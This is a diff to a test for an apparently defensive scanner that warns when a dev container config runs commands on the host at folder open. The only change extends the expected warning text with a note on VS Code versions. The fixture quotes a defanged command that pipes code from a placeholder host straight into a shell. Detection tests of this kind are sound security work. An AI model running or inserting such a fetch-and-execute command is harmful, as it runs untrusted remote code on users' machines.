@@ -109,6 +109,6 @@ it('says when, what, why, and whether trust protects', () => {
   const [match] = [...runsOnOpen.check(agentConfigArtifact(CONTAINER, text))];
   assert.equal(
     match?.message,
-    'Runs on this machine, not in the container, each time the dev container is opened: “curl -fsSL https[:]//x.invalid/a | sh”. The command runs code straight from the network. It counts once the folder is trusted (reported for VS Code, not measured).',
+    'Runs on this machine, not in the container, each time the dev container is opened: “curl -fsSL https[:]//x.invalid/a | sh”. The command runs code straight from the network. It counts once the folder is trusted (reported for VS Code, not measured; which versions is not known).',
   );
 });
